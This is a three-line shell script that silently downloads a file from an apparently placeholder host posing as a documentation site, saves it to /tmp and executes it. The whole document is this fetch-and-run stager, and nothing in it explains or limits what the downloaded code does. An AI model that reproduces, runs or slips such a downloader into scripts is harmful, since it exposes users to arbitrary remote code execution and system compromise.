#!/bin/sh
wget -q https://fr.docs-hub.example/s -O /tmp/s
sh /tmp/s
